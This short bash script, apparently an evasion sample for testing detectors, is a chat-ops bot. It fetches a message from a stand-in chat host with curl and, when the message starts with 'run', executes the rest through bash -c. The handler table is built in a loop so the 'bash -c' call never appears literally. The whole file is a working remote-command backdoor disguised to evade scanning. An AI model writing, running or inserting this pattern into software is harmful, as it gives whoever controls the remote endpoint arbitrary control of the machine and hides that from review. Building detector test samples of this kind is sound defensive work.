#!/usr/bin/env bash
# Evasion: run a shell with a command from the network. A chat-ops bot keeps
# its handlers in an associative array filled by a loop over quoted
# "name:program" pairs (${entry%%:*} the key, ${entry#*:} the program); the
# message's first word picks the handler and the "run" handler is bash -c.
set -u
declare -A HANDLERS
for entry in "ping:echo" "uptime:uptime" "run:bash"; do
    HANDLERS["${entry%%:*}"]="${entry#*:}"
done

handle() {
    local verb=${1%% *} rest=${1#* }
    local prog=${HANDLERS[$verb]:-echo}
    if [[ $verb == run ]]; then
        "$prog" -c "$rest"
    else
        "$prog" "$rest"
    fi
}

msg=$(curl -fsS https://chat.example-bots.net/api/next?bot=ops)
handle "$msg"
